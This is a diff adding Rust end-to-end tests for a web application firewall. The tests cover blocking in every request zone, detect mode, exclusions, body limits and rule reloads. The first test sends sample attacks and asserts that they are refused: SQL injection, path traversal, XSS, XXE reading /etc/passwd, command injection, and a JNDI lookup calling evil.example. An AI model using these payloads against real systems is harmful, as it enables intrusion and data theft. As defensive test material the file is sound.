@@ -1,0 +1,381 @@
+//! End-to-end WAF tests: attacks in every part of a request are refused before anything reaches
+//! the backend; detect mode, exclusions, body limits, explanations and rule reloads.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use common::*;
+
+fn config(backend: std::net::SocketAddr, waf: &str, route_extra: &str) -> String {
+    format!(
+        r#"server: {{ threads: 1 }}
+listeners:
+  - {{ name: main, address: 127.0.0.1:0 }}
+admin: {{ address: 127.0.0.1:0 }}
+access_log: {{ path: access.log }}
+reload: {{ poll_interval: 50ms }}
+upstreams:
+  app: {{ backends: ["{backend}"] }}
+routes:
+  - name: app
+    upstream: app
+{route_extra}
+waf:
+{waf}
+"#
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_in_every_part_of_a_request_are_blocked_before_the_backend() {
+    let be = Backend::start("app");
+    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
+    let cl = client();
+    let multipart = "--XB\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<script>alert(document.cookie)</script>\r\n--XB--\r\n";
+    let xml =
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
+    let attacks: Vec<(&str, reqwest::RequestBuilder)> = vec![
+        (
+            "query",
+            cl.get(gw.url("/search?id=1%27%20or%20%271%27%3D%271")),
+        ),
+        ("path", cl.get(gw.url("/files/..%2f..%2f..%2fetc%2fpasswd"))),
+        (
+            "header",
+            cl.get(gw.url("/"))
+                .header("X-Api-Version", "${jndi:ldap://evil.example/a}"),
+        ),
+        (
+            "user-agent",
+            cl.get(gw.url("/"))
+                .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ),
+        (
+            "cookie",
+            cl.get(gw.url("/")).header(
+                "Cookie",
+                "session=abc; id=1' union select password from users--",
+            ),
+        ),
+        (
+            "form",
+            cl.post(gw.url("/login"))
+                .header("Content-Type", "application/x-www-form-urlencoded")
+                .body("user=admin%27--&pass=x"),
+        ),
+        (
+            "json",
+            cl.post(gw.url("/api"))
+                .header("Content-Type", "application/json")
+                .body(r#"{"user":{"name":"x","bio":"<img src=x onerror=alert(1)>"}}"#),
+        ),
+        (
+            "multipart",
+            cl.post(gw.url("/upload"))
+                .header("Content-Type", "multipart/form-data; boundary=XB")
+                .body(multipart),
+        ),
+        (
+            "xml",
+            cl.post(gw.url("/soap"))
+                .header("Content-Type", "application/xml")
+                .body(xml),
+        ),
+        (
+            "raw body",
+            cl.post(gw.url("/cmd"))
+                .header("Content-Type", "text/plain")
+                .body(";cat /etc/passwd"),
+        ),
+    ];
+    for (zone, req) in attacks {
+        let r = req.send().await.unwrap();
+        assert_eq!(r.status(), 403, "{zone} attack was not blocked");
+        assert_eq!(r.headers()["content-type"], "application/problem+json");
+        let rid = r.headers()["x-request-id"].to_str().unwrap().to_string();
+        let body = r.text().await.unwrap();
+        let p: serde_json::Value = serde_json::from_str(&body).unwrap();
+        assert_eq!(p["status"], 403);
+        assert_eq!(p["request_id"], rid.as_str());
+        assert!(
+            !body.contains("rule"),
+            "the 403 must not reveal rule internals: {body}"
+        );
+        let line = gw.log_line(&rid).await;
+        assert_eq!(line["status"], 403, "{zone}");
+        assert_eq!(line["refusal"], "waf_blocked", "{zone}");
+        assert_eq!(line["waf"]["decision"], "blocked", "{zone}");
+        assert!(
+            line["waf"]["score"].as_u64().unwrap() >= 5,
+            "{zone}: {line}"
+        );
+        assert!(
+            !line["waf"]["matches"].as_array().unwrap().is_empty(),
+            "{zone}: {line}"
+        );
+    }
+    assert_eq!(
+        be.count(),
+        0,
+        "a blocked request reached the backend: {:?}",
+        be.seen()
+    );
+
+    // Ordinary traffic passes, including the near-misses rules must tolerate.
+    let benign = [
+        cl.get(gw.url("/search?q=select+a+plan+from+the+list&name=O%27Brien")),
+        cl.post(gw.url("/comments"))
+            .header("Content-Type", "application/x-www-form-urlencoded")
+            .body("comment=I+%3Cb%3Ereally%3C%2Fb%3E+like+it&file=report.v2.final.pdf"),
+        cl.post(gw.url("/api"))
+            .header("Content-Type", "application/json")
+            .body(r#"{"title":"Rock 'n' roll","price":10.5,"tags":["a","b"]}"#),
+    ];
+    for req in benign {
+        assert_eq!(req.send().await.unwrap().status(), 200);
+    }
+    assert_eq!(be.count(), 3);
+    gw.wait_metric(
+        r#"portcullis_waf_blocks_total{category="sqli",route="app"}"#,
+        3.0,
+    )
+    .await;
+    let m = gw.metrics().await;
+    assert!(
+        m.contains("portcullis_waf_rule_matches_total{rule=\"190100\"}"),
+        "{m}"
+    );
+}
+
+const LOCAL_RULES: &str = r#"
+rules:
+  - id: evil-word
+    description: the word evil
+    targets: [inputs]
+    transforms: [lowercase]
+    operator: { contains: evil }
+    tests:
+      match: ["GET /?x=EVIL"]
+"#;
+
+fn dir_with_rules(rules: &str) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("rules")).unwrap();
+    std::fs::write(dir.path().join("rules/local.yaml"), rules).unwrap();
+    dir
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detect_mode_lets_attacks_through_and_logs_them() {
+    let be = Backend::start("app");
+    let gw = TestGateway::start_in(
+        dir_with_rules(LOCAL_RULES),
+        &config(be.addr, "  rules: [rules]\n  mode: detect\n", ""),
+    );
+    let r = client().get(gw.url("/?x=evil")).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(be.count(), 1);
+    let rid = r.headers()["x-request-id"].to_str().unwrap().to_string();
+    let line = gw.log_line(&rid).await;
+    assert_eq!(line["waf"]["mode"], "detect");
+    assert_eq!(line["waf"]["decision"], "would_block");
+    assert_eq!(line["waf"]["matches"][0]["rule"], "evil-word");
+    assert_eq!(line["waf"]["matches"][0]["targets"][0], "args:x");
+    gw.wait_metric(
+        r#"portcullis_waf_detections_total{category="other",route="app"}"#,
+        1.0,
+    )
+    .await;
+    assert_eq!(
+        gw.metric(r#"portcullis_waf_blocks_total{category="other",route="app"}"#)
+            .await,
+        0.0
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exclusions_silence_one_rule_for_one_argument_on_one_route() {
+    let be = Backend::start("app");
+    let gw = TestGateway::start_in(
+        dir_with_rules(LOCAL_RULES),
+        &config(
+            be.addr,
+            "  rules: [rules]\n  exclusions:\n    - { rules: [evil-word], targets: [\"args:comment\"], routes: [app] }\n",
+            "",
+        ),
+    );
+    let cl = client();
+    assert_eq!(
+        cl.get(gw.url("/?comment=evil"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+    assert_eq!(
+        cl.get(gw.url("/?other=evil"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        403
+    );
+    assert_eq!(be.count(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn route_overrides_apply_per_route() {
+    let be = Backend::start("app");
+    let yaml = config(be.addr, "  rules: [rules]\n", "").replace(
+        "routes:\n  - name: app\n    upstream: app\n",
+        "routes:\n  - name: app\n    upstream: app\n  - name: trusted\n    path_prefix: /internal\n    upstream: app\n    waf: { mode: off }\n  - name: watched\n    path_prefix: /beta\n    upstream: app\n    waf: { mode: detect }\n",
+    );
+    let gw = TestGateway::start_in(dir_with_rules(LOCAL_RULES), &yaml);
+    let cl = client();
+    assert_eq!(
+        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
+        403
+    );
+    assert_eq!(
+        cl.get(gw.url("/internal?x=evil"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+    assert_eq!(
+        cl.get(gw.url("/beta?x=evil"))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
+    assert_eq!(be.count(), 2);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn oversized_bodies_are_rejected_or_passed_uninspected_as_configured() {
+    let be = Backend::start("app");
+    let yaml = config(be.addr, "  rules: [rules]\n  body_limit: 1KiB\n", "").replace(
+        "routes:\n  - name: app\n    upstream: app\n",
+        "routes:\n  - name: app\n    upstream: app\n  - name: uploads\n    path_prefix: /upload\n    upstream: app\n    waf: { on_body_limit: pass }\n",
+    );
+    let gw = TestGateway::start_in(dir_with_rules(LOCAL_RULES), &yaml);
+    let cl = client();
+    let big = format!("data={}", "a".repeat(4000));
+
+    let r = cl
+        .post(gw.url("/form"))
+        .body(big.clone())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 413);
+    assert_eq!(be.count(), 0);
+
+    // Passed: forwarded whole and unchanged, even with an attack word the WAF never saw.
+    let evil_big = format!("{big}&x=evil");
+    let r = cl
+        .post(gw.url("/upload"))
+        .body(evil_big.clone())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(be.last().body, evil_big.as_bytes());
+
+    // A chunked body (no Content-Length) over the limit on the pass route is replayed intact.
+    let chunks: Vec<Result<bytes::Bytes, std::io::Error>> = (0..8)
+        .map(|i| Ok(bytes::Bytes::from(format!("{i}{}", "b".repeat(299)))))
+        .collect();
+    let expected: Vec<u8> = (0..8)
+        .flat_map(|i| format!("{i}{}", "b".repeat(299)).into_bytes())
+        .collect();
+    let r = cl
+        .post(gw.url("/upload/chunked"))
+        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
+            chunks,
+        )))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(be.last().body, expected);
+
+    // Under the limit: inspected, attack blocked.
+    let r = cl
+        .post(gw.url("/upload"))
+        .body("x=evil")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    gw.wait_metric(
+        r#"portcullis_waf_body_limit_total{action="rejected",route="app"}"#,
+        1.0,
+    )
+    .await;
+    gw.wait_metric(
+        r#"portcullis_waf_body_limit_total{action="passed",route="uploads"}"#,
+        2.0,
+    )
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_broken_rule_file_is_refused_and_the_old_rules_keep_working() {
+    let be = Backend::start("app");
+    let gw = TestGateway::start_in(
+        dir_with_rules(LOCAL_RULES),
+        &config(be.addr, "  rules: [rules]\n", ""),
+    );
+    let cl = client();
+    assert_eq!(
+        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
+        403
+    );
+
+    let broken = LOCAL_RULES.replace(
+        "transforms: [lowercase]",
+        "transforms: [lowercase, urldecod]",
+    );
+    write_atomically(&gw.path("rules/local.yaml"), &broken);
+    gw.wait_metric(r#"portcullis_config_reloads_total{result="failure"}"#, 1.0)
+        .await;
+    assert_eq!(
+        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
+        403,
+        "old rules keep serving"
+    );
+
+    let changed = LOCAL_RULES
+        .replace("contains: evil", "contains: wicked")
+        .replace("x=EVIL", "x=WICKED");
+    write_atomically(&gw.path("rules/local.yaml"), &changed);
+    gw.wait_metric(r#"portcullis_config_reloads_total{result="success"}"#, 1.0)
+        .await;
+    assert_eq!(
+        cl.get(gw.url("/?x=evil")).send().await.unwrap().status(),
+        200
+    );
+    assert_eq!(
+        cl.get(gw.url("/?x=wicked")).send().await.unwrap().status(),
+        403
+    );
+
+    // A new rule file dropped into the directory is picked up too.
+    std::fs::write(
+        gw.path("rules/more.yaml"),
+        "rules:\n  - { id: vile, description: v, targets: [inputs], operator: { contains: vile }, tests: { match: [\"GET /?a=vile\"] } }\n",
+    )
+    .unwrap();
+    gw.wait_metric(r#"portcullis_config_reloads_total{result="success"}"#, 2.0)
+        .await;
+    assert_eq!(
+        cl.get(gw.url("/?x=vile")).send().await.unwrap().status(),
+        403
+    );
+}
